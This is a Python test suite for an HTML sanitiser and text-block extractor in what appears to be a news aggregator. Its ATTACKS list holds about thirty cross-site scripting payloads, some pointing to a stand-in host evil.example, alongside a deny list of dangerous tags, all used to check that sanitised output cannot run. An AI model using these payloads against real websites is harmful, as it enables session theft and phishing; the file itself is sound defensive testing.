"""HTML: to words, to blocks, to what a page may show."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from aggregator.text.blocks import Block, blocks
from aggregator.text.markup import clean, plain_text, sanitise, title_text

BASE = "https://example.org/news/a"
# One line a way to run a script, as collections of them have it.
ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='x.swf'></object><embed src='x.swf'>",
    "<form action='https://evil.example'><input name=password><button>Go</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<div id=cookie class=modal onclick=alert(1)>x</div>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<a href='https://example.org' target=_blank ping='https://evil.example'>x</a>",
]
FORBIDDEN = {
    *("script", "style", "svg", "math", "form", "input", "button", "iframe", "object", "embed"),
    *("meta", "base", "link", "template", "textarea", "video", "audio", "noscript", "select"),
}


def assert_harmless(html: str) -> None:
    body = LexborHTMLParser(f"<body>{html}").body
    assert body is not None
    for node in body.traverse():
        assert node.tag not in FORBIDDEN
        for name, value in node.attributes.items():
            assert not name.startswith("on")
            assert name not in {"style", "id", "class", "ping", "target", "srcdoc", "srcset"}
            if name in {"href", "src"}:
                assert (value or "").startswith(("https://", "http://", "mailto:"))


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_in_sanitised_html_runs(attack: str) -> None:
    for html in (attack, f"<p>{attack}</p>", f"<table><td>{attack}", attack * 3):
        assert_harmless(sanitise(html, BASE))


@given(st.lists(st.sampled_from([*ATTACKS, "<p>", "</p>", "<", ">", "'", '"', "x"]), max_size=8))
def test_nor_in_any_mixture_of_it(parts: list[str]) -> None:
    assert_harmless(sanitise("".join(parts), BASE))


def test_what_is_meant_to_be_read_stays() -> None:
    html = (
        '<h2>Head</h2><p>One <a href="/b?x=1&amp;y=2">two</a> <em>three</em></p>'
        '<img src="i.png" alt="A"><ul><li>x</li></ul>'
    )
    kept = sanitise(html, BASE)
    assert 'href="https://example.org/b?x=1&amp;y=2"' in kept
    assert 'rel="noopener noreferrer nofollow"' in kept
    assert 'src="https://example.org/news/i.png"' in kept
    assert "<h2>Head</h2>" in kept
    assert "<em>three</em>" in kept


def test_a_picture_that_pages_load_late_is_shown() -> None:
    html = "<img class=lazy src='data:image/gif;base64,R0' data-src='/i.jpg' alt='A bridge'>"
    assert sanitise(html, BASE) == '<img src="https://example.org/i.jpg" alt="A bridge">'
    assert "src" not in sanitise("<img data-src='javascript:alert(1)' src='/i.jpg'>", BASE)


def test_without_a_base_relative_links_go() -> None:
    assert "href" not in sanitise('<a href="/b">x</a>', None)
    assert "href" not in sanitise('<a href="/b">x</a>', "javascript:alert(1)")


@pytest.mark.parametrize(
    ("title", "text"),
    [
        ("Q&amp;A with the mayor", "Q&A with the mayor"),
        ("Q&amp;amp;A with the mayor", "Q&A with the mayor"),
        ("Harbour &#8217;s end", "Harbour ’s end"),
        ("The <i>Solveig</i> sails", "The Solveig sails"),
        ("A<br>B", "A B"),
        ("vector<int> is 3 < 4", "vector<int> is 3 < 4"),
        ("<![CDATA[Bridge]]>", "Bridge"),
        ("  two\n words ", "two words"),
        ("a\u00adb\u200bc\u202ed\x1b[31m", "abcd[31m"),
    ],
)
def test_titles_lose_their_markup_and_nothing_else(title: str, text: str) -> None:
    assert title_text(title) == text


def test_a_title_said_to_be_plain_keeps_what_looks_like_markup() -> None:
    assert title_text("How to use <b>", html=False) == "How to use <b>"


def test_words_of_html() -> None:
    assert plain_text("<p>One</p><p>two &amp; three</p>") == "One two & three"
    assert plain_text("a < b and c > d") == "a < b and c > d"
    assert clean("a\u00a0b\tc") == "a b c"
    assert clean("with \u200ca loaded\u200d word") == "with a loaded word"
    assert clean("می\u200cخواهم 👩\u200d🚒") == "می\u200cخواهم 👩\u200d🚒"


def texts(html: str) -> list[tuple[str, str]]:
    return [(block.kind, block.text) for block in blocks(html, BASE)]


def test_blocks_are_paragraphs_items_quotes_and_headings_in_order() -> None:
    html = (
        "lead<h2>Head</h2><p>One <b>two</b></p>tail<ul><li>x</li><li><p>y</p></li></ul>"
        "<blockquote><p>said</p></blockquote><pre>a\n  b</pre>"
        "<table><tr><td>1</td><td>2</td></tr></table>"
    )
    assert texts(html) == [
        ("paragraph", "lead"),
        ("heading", "Head"),
        ("paragraph", "One two"),
        ("paragraph", "tail"),
        ("item", "x"),
        ("item", "y"),
        ("quote", "said"),
        ("code", "a\n  b"),
        ("row", "1 | 2"),
    ]


def test_two_line_breaks_part_paragraphs_and_one_where_a_sentence_ends() -> None:
    long = "The council met for nine hours on Monday and talked of nothing but the new bridge."
    assert texts("one<br><br>two<br>three") == [("paragraph", "one"), ("paragraph", "two three")]
    assert texts(f"{long}<br>{long}") == [("paragraph", long), ("paragraph", long)]


def test_blank_lines_part_paragraphs_of_plain_text() -> None:
    assert texts("one\ntwo\n\nthree") == [("paragraph", "one two"), ("paragraph", "three")]
    assert texts("<b>one</b>\n\ntwo") == [("paragraph", "one"), ("paragraph", "two")]


def test_what_is_hidden_or_a_share_bar_is_left_out() -> None:
    html = (
        "<p>news</p><p style='display: none'>x</p><p hidden>x</p>"
        "<div class='sharedaddy'>Share</div><script>x</script><form>x</form>"
        "<span class='screen-reader-text'>x</span>"
    )
    assert texts(html) == [("paragraph", "news")]


def test_a_figure_is_one_image_with_caption_and_credit() -> None:
    html = (
        "<figure><img src='/i.jpg' alt='Alt'><figcaption>A bridge "
        "<span class='credit'>Jo Lee</span></figcaption></figure>"
    )
    assert blocks(html, BASE) == (
        Block(
            kind="image",
            text="A bridge",
            src="https://example.org/i.jpg",
            alt="Alt",
            credit="Jo Lee",
        ),
    )


@pytest.mark.parametrize(
    ("html", "src"),
    [
        ("<img src='data:image/gif;base64,R0' data-src='/i.jpg'>", "https://example.org/i.jpg"),
        ("<img srcset='/i.jpg 1x, /j.jpg 2x'>", "https://example.org/i.jpg"),
        ("<img src='https://pixel.example/x.gif' width=1 height=1>", None),
        ("<img src='https://secure.gravatar.com/avatar/7'>", None),
        ("<img src='javascript:alert(1)'>", None),
    ],
)
def test_a_picture_is_the_one_shown_and_no_counter(html: str, src: str | None) -> None:
    assert next((block.src for block in blocks(html, BASE)), None) == src


@given(st.text(max_size=200))
def test_no_text_makes_them_raise(text: str) -> None:
    for block in blocks(text, BASE):
        assert block.text.strip() or block.src
    plain_text(text)
    title_text(text)
    assert_harmless(sanitise(text, BASE))
